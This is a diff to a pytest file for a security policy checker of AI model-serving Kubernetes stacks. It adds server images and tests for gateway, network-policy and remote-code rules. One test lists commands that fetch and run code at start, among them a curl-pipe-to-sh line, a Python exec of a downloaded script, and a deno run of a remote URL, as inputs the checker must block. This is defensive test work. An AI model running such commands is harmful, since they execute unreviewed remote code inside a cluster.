@@ -92,6 +92,24 @@ SERVERS: dict[str, tuple[str, list[str], list[str], bool]] = {
         ["run", "--route-prefix", "/", "app:app"],
         False,
     ),
+    "mlserver": ("seldonio/mlserver", ["mlserver", "start", "/models"], [], False),
+    "koboldcpp": ("koboldai/koboldcpp", ["python3", "koboldcpp.py"], ["--model", "/m.gguf"], True),
+    "mistral.rs": (
+        "ghcr.io/ericlbuehler/mistral.rs",
+        ["mistralrs-server"],
+        ["--port", "80"],
+        False,
+    ),
+    "text-generation-webui": (
+        "atinoda/text-generation-webui",
+        ["python3", "server.py"],
+        ["--listen", "--api"],
+        False,
+    ),
+    "lemonade": ("ghcr.io/lemonade-sdk/lemonade-server", ["lemonade-server"], ["serve"], True),
+    "model-runner": ("docker/model-runner", [], [], False),
+    "comfyui": ("yanwk/comfyui-boot", ["python3", "main.py"], ["--listen"], False),
+    "router": ("lmcache/lmstack-router", ["vllm-router"], ["--port", "8000"], False),
     "own name": ("registry.acme.example/team/base", [], ["-p", "1"], False),
 }
 MARKS = {"own name": [{"name": "OLLAMA_KEEP_ALIVE", "value": "24h"}]}
@@ -105,6 +123,8 @@ def outcomes(
     *,
     public: str = "Ingress",
     accelerated: bool = False,
+    container: dict[str, Any] | None = None,
+    beside: list[tuple[str, dict[str, Any]]] | None = None,
 ) -> set[str]:
     """The rules that newly block the base stack with one more server, as hardened as the others,
     and a `public` way to its Service.
@@ -119,16 +139,17 @@ def outcomes(
     labels = {"app.kubernetes.io/name": "extra"}
     spec["selector"] = {"matchLabels": labels}
     spec["template"]["metadata"]["labels"] = labels
-    (container,) = spec["template"]["spec"]["containers"]
-    container |= {"image": f"{image}{DIGEST}", "command": command, "args": args, "env": env or []}
+    (server,) = spec["template"]["spec"]["containers"]
+    server |= {"image": f"{image}{DIGEST}", "command": command, "args": args, "env": env or []}
+    server |= container or {}
     for key in [key for key, value in (("command", command), ("args", args)) if not value]:
-        del container[key]
-    container["resources"] = {
+        del server[key]
+    server["resources"] = {
         "requests": {"cpu": "1", "memory": "8Gi"},
         "limits": {"memory": "8Gi"},
     }
     if accelerated:
-        for side in container["resources"].values():
+        for side in server["resources"].values():
             side["nvidia.com/gpu"] = "1"
     else:
         spec["template"]["spec"].pop("nodeSelector", None)
@@ -168,6 +189,7 @@ def outcomes(
         "HTTPRoute": ("kubernetes:gateway.networking.k8s.io/v1:HTTPRoute", route),
     }
     listed = [("kubernetes:core/v1:Service", service), *([ways[public]] if public in ways else [])]
+    listed += [(type_, {"metadata": metadata, "spec": spec}) for type_, spec in beside or ()]
     more = [{"type": type_, "name": "extra", "inputs": inputs} for type_, inputs in listed]
     report = check_stack(
         stack_of(recording_of([*base(), model, *more])), Settings(today="2026-11-21")
@@ -181,6 +203,66 @@ def test_a_public_way_to_a_server_without_accelerators_is_blocked(name):
     rules = outcomes(image, command, args, MARKS.get(name))
     assert "stack-require-gateway-before-models" in rules, rules
     assert ("model-require-server-key" in rules) == takes_key, rules
+
+
+@pytest.mark.parametrize(
+    ("port", "path", "is_server"),
+    [
+        (11434, "/", True),
+        (30000, "/", True),
+        (8000, "/v2/health/ready", True),
+        (8000, "/v1/models", True),
+        (8000, "/api/tags", True),
+        (8000, "/health", False),
+    ],
+)
+def test_a_server_of_a_companys_own_is_known_by_its_port_or_protocol(port, path, is_server):
+    pod = {
+        "ports": [{"containerPort": port}],
+        "readinessProbe": {"httpGet": {"path": path, "port": port}},
+    }
+    rules = outcomes("registry.acme.example/team/base", ["/app/start"], [], container=pod)
+    assert ("stack-require-gateway-before-models" in rules) is is_server
+
+
+@pytest.mark.parametrize(("port", "closed"), [(8081, True), (8080, False)])
+def test_no_network_policy_opens_the_port_that_administers_a_server(port, closed):
+    image, command, args, _ = SERVERS["torchserve"]
+    spec = {
+        "podSelector": {"matchLabels": {"app.kubernetes.io/name": "extra"}},
+        "ingress": [
+            {
+                "from": [{"podSelector": {"matchLabels": {"app.kubernetes.io/name": "gateway"}}}],
+                "ports": [{"port": port}],
+            }
+        ],
+    }
+    network = ("kubernetes:networking.k8s.io/v1:NetworkPolicy", spec)
+    rules = outcomes(image, command, args, public="", beside=[network])
+    assert ("stack-require-policy-before-models" in rules) is closed
+
+
+@pytest.mark.parametrize(
+    ("command", "is_piped"),
+    [
+        (["npx", "-y", "@acme/server"], True),
+        (["pipx", "run", "server"], True),
+        (["go", "run", "example.com/server@latest"], True),
+        (["deno", "run", "-A", "https://x.example/server.ts"], True),
+        (
+            ["python3", "-c", "import urllib.request as u; exec(u.urlopen('https://x').read())"],
+            True,
+        ),
+        (["sh", "-c", "curl -s https://x.example/i | sh"], True),
+        (["npx", "serve", "build"], False),
+        (["python3", "-c", "exec(open('/app/server.py').read())"], False),
+    ],
+)
+def test_a_program_that_is_downloaded_at_start_is_blocked_in_each_form_of_a_command(
+    command, is_piped
+):
+    rules = outcomes("registry.acme.example/team/base", command, [], public="")
+    assert ("pod-disallow-piped-programs" in rules) is is_piped
 
 
 WAYS = [(way, cards) for way in ("Ingress", "HTTPRoute", "LoadBalancer") for cards in (True, False)]
